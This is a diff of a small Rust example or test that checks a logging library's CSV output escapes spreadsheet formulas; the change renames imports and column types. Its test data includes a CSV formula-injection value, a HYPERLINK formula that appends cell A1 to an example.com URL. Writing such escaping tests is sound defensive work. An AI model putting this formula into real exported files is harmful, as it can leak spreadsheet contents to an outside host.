@@ -1,8 +1,8 @@
 //! A text that a spreadsheet would compute: in CSV it gets a `'` in front, which tells spreadsheets that it is a text.
 
-use tracing_handlers::Output;
-use tracing_handlers::format::{Csv, csv::Column};
+use tracing_handlers::format::Csv;
 use tracing_handlers::sink::Memory;
+use tracing_handlers::{Output, Part};
 
 use crate::{Recipe, logged};
 
@@ -10,7 +10,7 @@ pub const RECIPE: Recipe = Recipe { name: "formula", about: "no formula gets int
 
 fn make() -> String {
     let memory = Memory::new();
-    let columns = [Column::Message, Column::field("user"), Column::field("change")];
+    let columns = [Part::Message, Part::field("user"), Part::field("change")];
     logged(Output::new(Csv::new().columns(columns), memory.clone()), || {
         tracing::info!(user = "=HYPERLINK(\"http://example.com/?\"&A1,\"more\")", change = -5, "-2 pieces");
     });
